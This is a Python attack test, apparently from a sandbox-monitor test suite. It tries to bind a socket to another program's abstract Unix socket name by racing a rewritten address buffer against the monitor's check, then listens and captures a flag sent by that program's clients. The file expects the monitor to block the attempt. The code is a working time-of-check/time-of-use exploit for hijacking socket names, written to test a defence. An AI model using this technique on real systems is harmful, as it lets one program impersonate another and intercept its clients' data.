import ctypes
import mmap
import os
import socket
import struct

from tests.attacks.places import Places, flag_in, libc
from tests.attacks.races import rewriting, tries

TITLE = "serving under another program's abstract name"
TRIES = "Rewrites the name while it is looked at, listens, and waits for the program's clients."
PROMISE = "network"
MUST_FAIL = "The monitor looks at the name that a socket has got before it listens."
ATTEMPTS = 1000


def attack(places: Places) -> str | None:
    name = places.sockets["called"].encode()
    shared = mmap.mmap(-1, 4096)
    shared[: 2 + len(name)] = struct.pack("=H", socket.AF_UNIX) + name
    rewritten = rewriting(shared, 2, b"x", b"\0")  # a path, in the folder that it is in, or a name
    address = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(shared)))
    os.chdir(places.scratch)
    for _ in tries(ATTEMPTS, rewritten):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
            libc.bind(one.fileno(), address, 2 + len(name))
            if isinstance(one.getsockname(), bytes):
                return _served(one, places.arrives_s)
    return None


def _served(one: socket.socket, wait_s: float) -> str | None:
    one.listen()
    one.settimeout(wait_s)
    guest, _ = one.accept()
    with guest:
        return flag_in(guest.recv(100))
